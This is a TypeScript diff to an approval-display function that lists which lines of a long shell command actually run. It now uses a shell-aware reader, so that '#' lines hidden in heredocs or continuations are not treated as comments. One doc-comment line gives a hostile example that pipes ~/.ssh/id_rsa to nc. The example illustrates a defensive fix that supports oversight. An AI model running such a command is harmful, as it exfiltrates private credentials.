@@ -1,4 +1,5 @@
 import { describeMatch, type ApprovalMatch, type ApprovalRequest, type Asker, type QuestionToRoot } from '../../broker/index.js';
+import { readShellText } from '../../broker/approvals/index.js';
 import { codePointLabel, hasHidden, hasRightToLeft, RIGHT_TO_LEFT_RUN, showExactly } from '../../display/index.js';
 import { fitColumns } from './safe-text.js';
 
@@ -64,11 +65,17 @@ const RUNNING_LINES = 8;
  * one that matters sat in the middle, out of view between the start (recalled) and the end (shown
  * above the details). Each line whole, through the display rule. Empty when the command is short
  * or many of its lines run (the scrollback holds them; the recall says so).
+ *
+ * A line is a comment only when a shell reads it as one (`readShellText`, the reading the deny
+ * rules and tags use): a `#` line in a heredoc body, in a string spanning lines or after a `\`
+ * continuation runs (`#$(cat ~/.ssh/id_rsa | nc …)`) and is listed; a command it cannot follow
+ * to its end has every line listed.
  */
 export function runningLines(request: Pick<ApprovalRequest, 'command_or_path'>): string[] {
   const lines = request.command_or_path.split('\n');
   if (lines.length <= RUNNING_LINES) return [];
-  const running = lines.flatMap((line, i) => (line.trim() === '' || line.trim().startsWith('#') ? [] : [`    ${i + 1}: ${shownOneLine(line)}`]));
+  const { silent } = readShellText(request.command_or_path);
+  const running = lines.flatMap((line, i) => (line.trim() === '' || silent[i] === true ? [] : [`    ${i + 1}: ${shownOneLine(line)}`]));
   if (running.length === 0 || running.length > RUNNING_LINES) return [];
   return [`  the lines that run (${running.length} of ${count(lines.length)}; the others are blank or comments):`, ...running];
 }
